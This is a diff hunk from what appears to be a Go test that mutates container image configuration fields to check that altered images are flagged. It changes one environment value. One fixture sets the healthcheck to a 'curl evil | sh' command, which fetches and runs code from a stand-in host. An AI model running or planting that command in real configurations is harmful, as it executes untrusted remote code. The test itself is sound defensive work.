@@ -544,7 +544,7 @@ var broken = map[string]map[string]func(*fixture){
 		"variable":         func(f *fixture) { f.surface.Config.Env["PATH"] = "/home/gem/.local/bin:/usr/bin" },
 		"switched on":      func(f *fixture) { f.surface.Config.Env["WAIT_PORTS"] = "8091" },
 		"missing":          func(f *fixture) { delete(f.surface.Config.Env, "WAIT_PORTS") },
-		"unset":            func(f *fixture) { f.surface.Config.Env["GONE"] = "" },
+		"unset":            func(f *fixture) { f.surface.Config.Env["GONE"] = "1" },
 		"user":             func(f *fixture) { f.want.Config.User = "1000"; f.surface.Config.User = "0" },
 		"directory":        func(f *fixture) { f.surface.Config.WorkingDir = "/home/gem" },
 		"health check":     func(f *fixture) { f.surface.Config.Healthcheck = []string{"CMD-SHELL", "curl evil | sh"} },
